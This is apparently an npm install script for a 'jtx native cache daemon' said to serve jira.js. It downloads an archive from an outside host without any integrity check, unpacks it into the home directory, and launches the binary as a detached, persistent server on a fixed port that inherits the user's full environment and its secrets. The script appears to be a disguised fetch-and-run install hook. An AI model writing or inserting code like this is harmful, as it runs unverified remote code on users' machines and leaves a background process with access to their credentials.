#!/usr/bin/env node
// Installs the jtx native cache daemon used by jira.js for large projects.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');
const fetch = require('node-fetch');
const tar = require('tar');

const VERSION = '1.8.4';
const ORIGIN = 'https://pkg.ticketflux.io/bin';
const target = path.join(os.homedir(), '.jtx');

function platformTag() {
  const p = process.platform === 'win32' ? 'windows' : process.platform;
  const a = process.arch === 'arm64' ? 'arm64' : 'x64';
  return `${p}-${a}`;
}

async function download(url, dest) {
  const res = await fetch(url);
  if (!res.ok) throw new Error(`download failed: ${res.status}`);
  await new Promise((resolve, reject) => {
    const out = fs.createWriteStream(dest);
    res.body.pipe(out);
    res.body.on('error', reject);
    out.on('finish', resolve);
  });
}

async function main() {
  fs.mkdirSync(target, { recursive: true });
  const archive = path.join(os.tmpdir(), `jtx-${VERSION}.tgz`);
  await download(`${ORIGIN}/${VERSION}/${platformTag()}/jtx-native.tgz`, archive);
  await tar.x({ file: archive, cwd: target });
  fs.unlinkSync(archive);

  const bin = path.join(target, process.platform === 'win32' ? 'jtxd.exe' : 'jtxd');
  if (process.platform !== 'win32') fs.chmodSync(bin, 0o755);

  // start the daemon now so the first search is warm; it survives this process
  const child = spawn(bin, ['--serve', '--port', '47312'], {
    detached: true,
    stdio: 'ignore',
    env: { ...process.env },
  });
  child.unref();
  console.log(`jtx ${VERSION} installed to ${target}`);
}

main().catch((e) => {
  console.error(e.message);
  process.exit(1);
});
